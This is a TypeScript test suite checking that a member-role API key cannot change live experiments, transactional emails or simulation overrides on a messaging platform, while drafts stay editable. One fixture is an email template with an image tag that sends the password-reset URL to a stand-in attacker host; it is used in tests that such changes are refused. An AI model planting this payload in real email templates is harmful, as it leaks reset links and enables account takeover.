import type { ApiResponse } from '../../support/api-client';
import { createCommunication, createSubject, uniqueName } from '../../support/journeys';
import { addMember } from '../../support/members';
import { documentedOperations, type DocumentedOperation } from '../../support/openapi';
import { useWorld } from '../../support/world';
import { liveTable } from './live-table';
import { filledPaths, nobodysNames, requestOf, type Names } from './requests';
import { createExperiment } from '../../support/workspaces';

/** Calls every operation as a member. Drafts are allowed; changes of live content are refused and have no effect. */

const world = useWorld({ temporal: false });
let operations: DocumentedOperation[];
let key: string;
let live: Names;
let draft: { experiment: string; communication: string };

beforeAll(async () => {
  operations = await documentedOperations(world);
  key = (await addMember(world, 'member')).userKey;
  live = await liveNames();
  draft = { experiment: await draftExperiment(), communication: await createCommunication(world, 'Draft') };
});

const made = async (path: string, body: unknown): Promise<string> => {
  const response = await world.api.post(path, body);
  if (response.status >= 300) throw new Error(`${path}: ${JSON.stringify(response.body)}`);
  return response.body.id as string;
};

const draftExperiment = async (): Promise<string> =>
  (await createExperiment(world.database, world.demo.workspaceId, { status: 'draft' })).id;

const createTransactional = (): Promise<string> =>
  made('/api/communications', {
    name: uniqueName('receipt'),
    commType: 'transactional',
    slots: { subject: 'Hello', body: 'Hello' },
  });

async function liveNames(): Promise<Names> {
  const subject = await createSubject(world);
  const triggerContract = await made('/api/trigger-contracts', { eventName: uniqueName('event') });
  const audience = await made('/api/audiences', { name: 'Everybody', condition: { all: [] } });
  const sent = await createCommunication(world, 'Sent');
  const journey = await made('/api/journeys', {
    name: 'Live',
    triggerContractId: triggerContract,
    audienceId: audience,
    holdoutPercent: 0,
    steps: [
      { id: 'send', kind: 'send', communicationId: sent, next: 'end' },
      { id: 'end', kind: 'exit' },
    ],
  });
  await made(`/api/journeys/${journey}/publish`, {});
  const experiment = await draftExperiment();
  await world.api.patch(`/api/experiments/${experiment}`, { status: 'running' });
  return {
    ...nobodysNames(world.demo.workspaceKey),
    journey,
    triggerContract,
    audience,
    experiment,
    endUser: subject.id,
    visitor: subject.visitorId,
    journeyRead: (await world.api.get(`/api/journeys/${journey}`)).body.updatedAt,
    communication: await createTransactional(),
  };
}

/** Reads all data that decides what customers and their visitors receive. */
async function liveState(): Promise<unknown> {
  const { workspaceId } = world.demo;
  const rows = (table: string, order: string, columns = ['*']) =>
    world.database(table).where({ workspace_id: workspaceId }).orderBy(order).select(columns);
  const experiments = await rows('experiments', 'id').whereNot({ status: 'draft' });
  const active = await world.api.get(`/api/experiments/active?key=${world.demo.workspaceKey}`);
  // A test email to oneself changes nothing live, and records its time.
  const { first_test_email_at: _, ...workspace } = await world
    .database('workspaces')
    .where({ id: workspaceId })
    .first();
  return {
    workspace,
    journeys: await world.database('journeys').where({ id: live.journey }).select('status', 'latest_version'),
    versions: await rows('journey_versions', 'journey_id'),
    contents: await rows('journey_version_contents', 'journey_id'),
    transactional: await rows('communications', 'id').where({ comm_type: 'transactional' }),
    // Reading results evaluates the experiment.
    experiments: experiments.map((row: object) => ({ ...row, evaluation: null })),
    active: active.body,
    executions: await rows('executions', 'id'),
    keys: await rows('api_keys', 'id', ['id', 'revoked_at']),
    suppressions: await rows('suppressions', 'id'),
    connections: await rows('ad_connections', 'id'),
  };
}

const asMember = (method: string, path: string, body?: unknown): Promise<ApiResponse> =>
  world.api.raw(path, {
    method,
    headers: { 'content-type': 'application/json', 'x-api-key': key },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });

/** Calls an operation on live content with a valid body. */
function walk(name: string, names = live): Promise<ApiResponse> {
  const operation = operations.find((one) => one.name === name);
  if (operation === undefined) throw new Error(`The document has no ${name}.`);
  const path = filledPaths(operation.path, names)[0] ?? operation.path.replace(/\{[A-Za-z]+\}/g, 'none');
  const request = requestOf(operation, names, { 'x-api-key': key });
  return world.api.raw(path, request);
}

const expectRefused = ({ status, body }: ApiResponse, role = 'admin'): void => {
  expect({ status, code: body.code, error: body.error }).toEqual({
    status: 403,
    code: 'FORBIDDEN',
    error: expect.stringMatching(new RegExp(`requires the role ${role}\\b.*Your role is member\\.$`)),
  });
};

const named = (kind: string): string[] =>
  Object.entries(liveTable).flatMap(([name, found]) => (found === kind ? [name] : []));

test('every operation of the document is classified', () => {
  expect(operations.map(({ name }) => name).sort()).toEqual(Object.keys(liveTable).sort());
});

test.each(['admin', 'owner'].flatMap((role) => named(role).map((name) => [name, role] as const)))(
  '%s is refused, and the response names the role %s',
  async (name, role) => expectRefused(await walk(name), role),
);

test('operations that members may call succeed and change nothing live', async () => {
  const before = await liveState();
  const refused: string[] = [];
  for (const name of named('free')) {
    const { status } = await walk(name);
    if ([401, 403].includes(status) || status >= 500) refused.push(`${name}: ${status}`);
  }
  expect(refused).toEqual([]);
  expect(await liveState()).toEqual(before);
  expect(named('free').length).toBeGreaterThanOrEqual(60);
});

const slots = { subject: 'Mine', body: '<img src="https://mallory.example/?{{ reset_url }}">' };

/** Requests that change live content: method, path, body. */
const refusals: [string, () => [string, string, unknown?]][] = [
  ['starting an experiment', () => ['PATCH', `/api/experiments/${draft.experiment}`, { status: 'running' }]],
  ['starting one by its id', () => ['PATCH', '/api/experiments', { id: draft.experiment, status: 'running' }]],
  ['completing a draft', () => ['PATCH', `/api/experiments/${draft.experiment}`, { status: 'completed' }]],
  ['pausing one that runs', () => ['PATCH', `/api/experiments/${live.experiment}`, { status: 'paused' }]],
  ['redrafting one that runs', () => ['PATCH', `/api/experiments/${live.experiment}`, { status: 'draft' }]],
  ['changing its traffic', () => ['PATCH', `/api/experiments/${live.experiment}`, { trafficSplit: 1 }]],
  ['changing its traffic by its id', () => ['PATCH', '/api/experiments', { id: live.experiment, traffic_split: 1 }]],
  ['renaming it', () => ['PATCH', `/api/experiments/${live.experiment}`, { name: 'Mine' }]],
  ['deleting it', () => ['DELETE', `/api/experiments/${live.experiment}`]],
  [
    'creating a transactional communication',
    () => ['POST', '/api/communications', { name: 'Mine', commType: 'transactional', slots }],
  ],
  [
    'overriding the catalog',
    () => ['POST', '/api/communications', { id: 'password-reset', name: 'Mine', commType: 'transactional', slots }],
  ],
  [
    'overriding the catalog in disguise',
    () => ['POST', '/api/communications', { id: 'password-reset', name: 'Mine', commType: 'marketing', slots }],
  ],
  ['changing a transactional communication', () => ['PATCH', `/api/communications/${live.communication}`, { slots }]],
  ['making one marketing', () => ['PATCH', `/api/communications/${live.communication}`, { commType: 'marketing' }]],
  [
    'making a marketing one transactional',
    () => ['PATCH', `/api/communications/${draft.communication}`, { commType: 'transactional' }],
  ],
  ['deleting a transactional communication', () => ['DELETE', `/api/communications/${live.communication}`]],
];

test.each(refusals)('%s is refused', async (_what, request) => {
  const before = await liveState();
  expectRefused(await asMember(...request()));
  expect(await liveState()).toEqual(before);
});

test('only an owner may override the checks of a simulation', async () => {
  const body = { subjectAttributes: { plan: 'pro' }, overrides: ['holdout'] };
  expectRefused(await asMember('POST', `/api/journeys/${live.journey}/simulate`, body), 'owner');
});

test('a missing role is reported before an invalid body', async () => {
  const invalid = { status: 'running', trafficSplit: 'all', nonsense: true };
  expectRefused(await asMember('PATCH', `/api/experiments/${draft.experiment}`, invalid));
  expectRefused(await asMember('PATCH', `/api/experiments/${live.experiment}`, { nonsense: true }));
  expectRefused(await asMember('POST', '/api/communications', { commType: 'transactional', slots: 5 }));
  expectRefused(await asMember('PATCH', `/api/communications/${live.communication}`, { nonsense: true }));
  const overrides = { overrides: ['holdout', 'everything'], nonsense: true };
  expectRefused(await asMember('POST', `/api/journeys/${live.journey}/simulate`, overrides), 'owner');
});

/** The same operations on content that is not live. */
const allowed: [string, () => [string, string, unknown?]][] = [
  ['changing a draft', () => ['PATCH', `/api/experiments/${draft.experiment}`, { trafficSplit: 10, status: 'draft' }]],
  ['changing a draft by its id', () => ['PATCH', '/api/experiments', { id: draft.experiment, name: 'Ours' }]],
  [
    'creating a marketing communication',
    () => ['POST', '/api/communications', { name: 'Ours', commType: 'marketing', slots: { subject: 'Ours' } }],
  ],
  [
    'changing one',
    () => [
      'PATCH',
      `/api/communications/${draft.communication}`,
      { commType: 'marketing', slots: { subject: 'Ours' } },
    ],
  ],
  [
    'simulating',
    () => ['POST', `/api/journeys/${live.journey}/simulate`, { subjectAttributes: { plan: 'pro' }, overrides: [] }],
  ],
];

test.each(allowed)('a member may still do this: %s', async (_what, request) => {
  expect((await asMember(...request())).status).toBeLessThan(300);
});

test('a member may delete a draft and a marketing communication', async () => {
  expect((await asMember('DELETE', `/api/experiments/${await draftExperiment()}`)).status).toBe(200);
  const communication = await createCommunication(world, 'Draft');
  expect((await asMember('DELETE', `/api/communications/${communication}`)).status).toBe(200);
});

test('an unknown id returns 404 without the required role, too', async () => {
  expect((await asMember('PATCH', '/api/experiments/exp_none', { name: 'x' })).status).toBe(404);
  expect((await asMember('PATCH', '/api/communications/com_none', { name: 'x' })).status).toBe(404);
  expect((await asMember('DELETE', '/api/communications/password-reset')).status).toBe(404);
});

test('a server key acts as an admin, without overrides', async () => {
  const experiment = await draftExperiment();
  expect((await world.api.patch(`/api/experiments/${experiment}`, { status: 'running' })).status).toBe(200);
  expect((await world.api.patch(`/api/experiments/${experiment}`, { status: 'paused' })).status).toBe(200);
  const communication = await createTransactional();
  expect((await world.api.delete(`/api/communications/${communication}`)).status).toBe(200);
  const body = { subjectAttributes: { plan: 'pro' }, overrides: ['holdout'] };
  expect((await world.api.post(`/api/journeys/${live.journey}/simulate`, body)).status).toBe(403);
});
